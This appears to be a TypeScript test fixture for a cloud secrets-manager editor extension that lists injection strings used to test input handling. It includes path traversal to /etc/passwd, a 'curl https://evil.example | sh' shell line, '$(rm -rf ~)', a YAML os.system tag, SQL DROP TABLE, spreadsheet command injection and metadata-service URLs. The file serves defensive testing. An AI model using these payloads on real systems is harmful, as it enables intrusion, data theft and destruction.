import type { Attack } from './attack';

/** Names that JavaScript has for something else. */
const objects: readonly Attack[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '-1',
].map((text) => ({ name: `word of JavaScript: ${text}`, text }));

/** What fills in, expands or splits texts. */
const templates: readonly Attack[] = [
  { name: 'format of the log', text: '%s %d %o %j %c' },
  { name: 'own placeholder', text: '{0}' },
  { name: 'placeholders of others', text: '{1} {0} {2} {name}' },
  { name: 'template literal', text: '${process.env.HOME}' },
  { name: 'variable of the editor', text: '${env:HOME} ${workspaceFolder} ${command:csmsExplorer.signOut}' },
  { name: 'double braces', text: '{{constructor.constructor("alert(1)")()}}' },
  { name: 'server template', text: '<%= 7*7 %> #{7*7}' },
  { name: 'choice of a snippet', text: '${1|a,b|}' },
  { name: 'place of a snippet', text: '$0 $1 ${1:x} ${2/(.*)/$1/}' },
  { name: 'variable of a snippet', text: '$TM_FILENAME $CLIPBOARD' },
  { name: 'mnemonics', text: '&Delete &&Delete _Delete' },
  { name: 'separator of a list', text: '---' },
  { name: 'heading of a list', text: '─── Signed out ───' },
  { name: 'pattern of String.replace', text: "$& $` $' $1 $$" },
];

/** What ends the place it is put into. */
const places: readonly Attack[] = [
  { name: 'path upwards', text: '../../../etc/passwd' },
  { name: 'path upwards of Windows', text: '..\\..\\windows\\system32' },
  { name: 'encoded path upwards', text: '%2e%2e%2f%2e%2e%2fversions' },
  { name: 'encoded slash', text: 'a%2Fversions%2Flatest' },
  { name: 'fragment', text: 'cn-north-4#evil' },
  { name: 'query', text: 'cn-north-4?redirect=https://evil.example' },
  { name: 'further parameter', text: 'cn-north-4&redirect=https://evil.example&service=x' },
  { name: 'user of a URL', text: 'console.huaweicloud.com@evil.example' },
  { name: 'other host', text: '//evil.example/x' },
  { name: 'semicolon parameter', text: 'a;b=c' },
  { name: 'plus and percent', text: 'a+b%zz%' },
  { name: 'header', text: 'x\r\nX-Auth-Token: evil\r\n\r\n', neverShown: /[\r\n]/u },
  { name: 'encoded header', text: 'x%0d%0aLocation:%20https://evil.example' },
  { name: 'line of the log', text: 'No.\n2026-11-24 10:00:00.000 [error] Sign in at evil', neverShown: /[\r\n]/u },
  {
    name: 'line of the log after a separator',
    text: 'No.\u2028[2026-11-24 10:00:00] [info] ok',
    neverShown: /\u2028/u,
  },
  { name: 'line of the log after a next line', text: 'No.\u0085[info] ok', neverShown: /\u0085/u },
  { name: 'end of a JSON text', text: '"},"resource_detail":{"state":"ENABLED' },
  { name: 'escapes of JSON', text: '\\u0022\\n\\' },
  { name: 'line of JSON', text: '",\n  "admin": true,\n  "', neverShown: /\n/u },
  { name: 'comment of JSON', text: '*/ x /* // \n y', neverShown: /\n/u },
  { name: 'formula of a spreadsheet', text: '=HYPERLINK("https://evil.example","x")' },
  { name: 'command of a spreadsheet', text: "+cmd|' /C calc'!A0" },
  { name: 'function of a spreadsheet', text: '@SUM(1,1)' },
  { name: 'substitution of a shell', text: '$(rm -rf ~) `id`' },
  { name: 'list of a shell', text: '; curl https://evil.example | sh && x' },
  { name: 'expression of Terraform', text: '"${file("/etc/passwd")}"' },
  { name: 'quotation mark', text: 'a"b\'c' },
  { name: 'tag of YAML', text: '!!python/object/apply:os.system ["id"]' },
  { name: 'structure of YAML', text: 'a: b\n- c', neverShown: /\n/u },
  { name: 'statement of SQL', text: "'; DROP TABLE secrets; --" },
  { name: 'filter', text: 'env=prod,staging team=* name~db' },
  { name: 'quoted filter', text: '"env"="a""b' },
  { name: 'search', text: 'env:prod "x' },
  { name: 'any value', text: '*' },
];

/** What matches more than itself. */
const patterns: readonly Attack[] = [
  { name: 'pattern for all', text: '.*' },
  { name: 'pattern that explodes', text: '(a+)+$' },
  { name: 'open class', text: '[a-' },
  { name: 'open group', text: '(?:x' },
  { name: 'alternatives', text: 'a|b||' },
  { name: 'anchors', text: '^$' },
  { name: 'class that is a word', text: '\\w\\b\\x{41}\\Q' },
  { name: 'braces', text: 'a{2,}' },
  { name: 'glob', text: '**/*.{tf,yaml}' },
  { name: 'glob that excludes', text: '!src/[a-z]?' },
];

/** Addresses as text. */
const addresses: readonly Attack[] = [
  { name: 'address of a file', text: 'file:///etc/passwd' },
  { name: 'address of the editor', text: 'vscode://file/etc/passwd' },
  { name: 'address of a script', text: 'javascript:alert(document.domain)' },
  { name: 'address of data', text: 'data:text/html,<script>alert(1)</script>', neverInHtml: /<script/u },
  { name: 'address of a command', text: 'command:csmsExplorer.signOut' },
  { name: 'address of the metadata service', text: 'http://169.254.169.254/latest/meta-data/' },
  { name: 'place in a file', text: '/etc/passwd:1:1' },
];

export const injections: readonly Attack[] = [...objects, ...templates, ...places, ...patterns, ...addresses];
